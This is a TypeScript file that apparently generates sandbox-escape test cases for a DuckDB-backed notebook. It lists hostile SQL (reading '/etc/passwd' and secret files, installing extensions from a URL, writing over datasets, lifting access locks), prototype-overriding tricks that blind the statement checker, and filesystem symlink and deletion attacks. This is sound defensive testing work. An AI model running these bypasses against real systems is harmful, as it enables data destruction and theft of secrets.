/** Ways in which a cell tries to get at the engine, and what it would have it do: each way is tried with each statement. */

/** Places of a try: a dataset, the folder of the datasets, a file outside, a listener that must hear nothing. */
export interface Places {
  readonly dataset: string;
  readonly datasets: string;
  readonly outside: string;
  readonly secret: string;
  readonly url: string;
}

export interface Attempt {
  readonly name: string;
  readonly source: string;
}

/** Statements that would write, load, ask the network, or read what is not for cells. */
function statements({ dataset, datasets, outside, secret, url }: Places): readonly string[] {
  return [
    `copy (select 1 as x) to '${dataset}'`,
    `COPY (select 1 as x) TO '${dataset}' (format parquet)`,
    `/* c */ copy (select 1) to '${datasets}/new.csv'`,
    `-- c\ncopy (values (1)) to '${datasets}/new.parquet'`,
    `copy (select 1) to '${datasets}/parts' (format csv, partition_by (x))`,
    `copy (select 1) to '${outside}/written.csv'`,
    `explain analyze copy (select 1) to '${dataset}'`,
    `select 1; copy (select 1) to '${dataset}'`,
    `select ';'; copy (select 1) to '${dataset}'`,
    `select $$;$$; copy (select 1) to '${dataset}'`,
    `select e'\\';'; copy (select 1) to '${dataset}'`,
    `prepare p as copy (select 1) to '${dataset}'; execute p`,
    `with x as (select 1) insert into clientele.x select * from x`,
    `attach '${datasets}/new.db' as d`,
    `attach '${datasets}/new.db' as d; create table d.t as select 1; checkpoint d`,
    `export database '${datasets}/export'`,
    `export/**/database '${datasets}/export'`,
    `import database '${datasets}'`,
    `install httpfs from '${url}'`,
    `force install json from '${url}'`,
    `load '${dataset}'`,
    `update extensions`,
    `from read_csv('${url}/x.csv')`,
    `from '${url}/x.parquet'`,
    `from read_text('${secret}')`,
    `from '${secret}'`,
    `from read_blob('${datasets}/../secret.txt')`,
    `from glob('${outside}/*')`,
    `from read_csv('/etc/passwd', header = false)`,
    `call enable_logging(storage = 'file', storage_path = '${datasets}/log')`,
    `from enable_logging(storage := 'file', storage_path := '${datasets}/log')`,
    `from "enable_logging"(storage := 'file', storage_path := '${datasets}/log')`,
    `from query('from ena' || 'ble_logging(storage := ''file'', storage_path := ''${datasets}/log'')')`,
    `from query/**/('select ' || '1')`,
    `from json_execute_serialized_sql(json_serialize_sql('from enable_logging()'))`,
    `set enable_external_access = true`,
    `set allowed_directories = ['/']`,
    `reset lock_configuration`,
    `pragma enable_profiling`,
    `set profiling_output = '${dataset}'`,
    `create secret s (type http, extra_http_headers map {'x': 'y'})`,
    `create persistent secret s (type http)`,
    `create or replace secret s in local_file (type http)`,
    `copy "clientele"."export_1" to '${dataset}' (format parquet)`,
    `copy "clientele"."export_1" to 'SCRATCH/../../datasets/kept.csv' (format parquet)`,
    `copy from database memory to d`,
    `vacuum`,
    `force checkpoint`,
    `create view clientele.v as select 1; copy clientele.v to '${dataset}'`,
    `create macro m() as table (from query('from ena' || 'ble_logging()'))`,
    `drop table if exists clientele.none; copy (select 1) to '${dataset}'`,
    `begin; copy (select 1) to '${dataset}'; commit`,
    `delete from clientele.table_1`,
    `alter table clientele.table_1 rename to stolen`,
    `from read_duckdb('${dataset}')`,
    `\uFEFFcopy (select 1) to '${dataset}'`,
    `\u00A0copy (select 1) to '${dataset}'`,
    `((copy (select 1) to '${dataset}'))`,
  ];
}

/** Each gives the connection as `connection`; afterwards the world is put right, so that the statement is what is tried. */
const CAPTURES: Readonly<Record<string, string>> = {
  "Map.prototype.set": hook("Map.prototype", "set", "args[0]"),
  "Map.prototype.get": hook("Map.prototype", "get", "args[0]"),
  "Map.prototype.delete": hook("Map.prototype", "delete", "args[0]"),
  "Array.prototype.push": hook("Array.prototype", "push", "args[0]"),
  "Array.prototype.pop": hook("Array.prototype", "pop", "result"),
};

function hook(object: string, method: string, value: string): string {
  return `{
    const real: any = (${object} as any).${method};
    (${object} as any).${method} = function (...args: any[]) {
      const result = real.apply(this, args);
      const found: any = ${value};
      if (found && typeof found === "object" && "runAndReadAll" in found) connection ??= found;
      return result;
    };
    try { await sql\`select 1\`.rows(); } finally { (${object} as any).${method} = real; }
  }`;
}

/** Ways to have a statement run once there is a connection. */
const RUNS: Readonly<Record<string, string>> = {
  run: "await connection.run(statement)",
  runAndReadAll: "await connection.runAndReadAll(statement)",
  stream: "const result = await connection.stream(statement); await result.fetchAllChunks()",
  prepare: "const prepared = await connection.prepare(statement); await prepared.run()",
  pending:
    "const prepared = await connection.prepare(statement); const pending = prepared.start(); await pending.getResult()",
  extract:
    "const all = await connection.extractStatements(statement); for (let i = 0; i < all.count; i++) await (await all.prepare(i)).run()",
  "an object that is two texts":
    "let asked = 0; await connection.run({ toString: () => (asked++ === 0 ? 'select 1' : statement) } as any)",
};

/** What a cell breaks before it has a statement run, so that the check of the statement does not see what it is. */
const BREAKS: Readonly<Record<string, string>> = {
  nothing: "",
  "String.prototype.toLowerCase": "String.prototype.toLowerCase = function () { return 'select 1'; };",
  "String.prototype.charCodeAt": "String.prototype.charCodeAt = () => NaN;",
  "String.prototype.indexOf": "String.prototype.indexOf = () => -1;",
  "String.prototype.slice": "String.prototype.slice = () => 'copy';",
  "RegExp.prototype.exec": "RegExp.prototype.exec = () => null; RegExp.prototype.test = () => true;",
  "Array iterators": "(Array.prototype as any)[Symbol.iterator] = function* () { yield 'select 1'; };",
  "Function.prototype.call":
    "Function.prototype.call = function () { return 1; } as any; Function.prototype.apply = function () { return 1; } as any;",
  "Reflect.apply": "Reflect.apply = () => 1 as any;",
  "Object.prototype numbers":
    "for (const type of [11, 16, 21, 25, 4, 8]) Object.defineProperty(Object.prototype, type, { value: true, configurable: true });",
  "Promise.prototype.then":
    "const then = Promise.prototype.then; let raw: any; Promise.prototype.then = function (this: any, ok: any, no: any) { return then.call(this, (value: any) => { raw = value; return ok ? ok(value) : value; }, no); } as any;",
  "Promise species":
    "Object.defineProperty(Promise.prototype, 'constructor', { get() { return class extends Promise<unknown> {}; }, configurable: true });",
  Error: "globalThis.Error = class { constructor() { return {} as any; } } as any;",
  "JSON.parse": "JSON.parse = () => ({}) as any;",
};

/** Ways around the engine: what lies in the scratch folder is written to, and may be another file by another name. */
function fileWays({ dataset, datasets, secret }: Places): Attempt[] {
  const ways = [
    `fs.linkSync("${dataset}", own); fs.writeFileSync(own, "broken")`,
    `fs.symlinkSync("${dataset}", own); fs.writeFileSync(own, "broken")`,
    `fs.symlinkSync("${datasets}", own); fs.writeFileSync(own + "/new.csv", "broken")`,
    `fs.renameSync("${dataset}", own)`,
    `fs.truncateSync("${dataset}")`,
    `fs.rmSync("${dataset}")`,
    `fs.cpSync("${datasets}", own, { recursive: true }); fs.cpSync(own, "${datasets}", { recursive: true, force: true })`,
    `fs.copyFileSync(own, "${dataset}")`,
    `fs.futimesSync(fs.openSync("${dataset}", "r+"), 1, 1)`,
    `fs.symlinkSync("${secret}", own + ".csv"); await sql(Object.assign(["from '" + own + ".csv'"], { raw: [] }) as any).rows()`,
  ];
  return ways.map((way, i) => ({
    name: `files: ${way}`,
    source: `import { fs, os, path } from "./files.ts";
const own = path.join(os.tmpdir(), "attack-${i}");
${way};
"DONE"`,
  }));
}

/** Statements by the way that cells have: the tag, fragments, names, and what keeps a result. */
function tagWays(all: readonly string[]): Attempt[] {
  const ways = [
    "await sql(Object.assign([statement], { raw: [statement] }) as any).rows()",
    "await sql(Object.assign([statement], { raw: [statement] }) as any).materialize()",
    "await sql(Object.assign(['select 1) as t; ' + statement + '; from (select 1'], { raw: [] }) as any).count()",
    `await sql\`select \${sql.fragment(Object.assign(['1; ' + statement], { raw: [] }) as any)}\`.rows()`,
    `await sql\`select \${{ kind: 'identifier', path: [statement] } as any}\`.schema()`,
    `await sql\`from \${{ kind: 'fragment', strings: ['kept; ' + statement], values: [] } as any}\`.columns()`,
  ];
  return all.map((statement, i) => ({
    name: `${ways[i % ways.length]}: ${statement}`,
    source: `const statement = ${JSON.stringify(statement)};
${ways[i % ways.length]};
"DONE"`,
  }));
}

export function attempts(places: Places): Attempt[] {
  const all = statements(places);
  const captures = Object.keys(CAPTURES);
  const captureOf = (i: number) => captures[i % captures.length] as string;
  // Every statement in every way to run it, and some of them behind everything that is broken before.
  const captured = all.flatMap((statement, i) =>
    Object.keys(RUNS).map((run, j) => attempt(statement, captureOf(i + j), run, "nothing")),
  );
  const broken = Object.keys(BREAKS)
    .slice(1)
    .flatMap((broken) =>
      [0, 7, 15, 18, 29].map((i) => attempt(all[i] as string, captureOf(i), "extract", broken)),
    );
  return [...captured, ...broken, ...tagWays(all), ...fileWays(places)];
}

function attempt(statement: string, capture: string, run: string, broken: string): Attempt {
  return {
    name: `${capture}, ${run}, ${broken} broken: ${statement}`,
    source: `let connection: any;
${CAPTURES[capture]}
if (!connection) throw new Error("NO CONNECTION");
const statement = ${JSON.stringify(statement)}.replace("SCRATCH", "/tmp");
{
  ${BREAKS[broken]}
  ${RUNS[run]}
}
"DONE"`,
  };
}
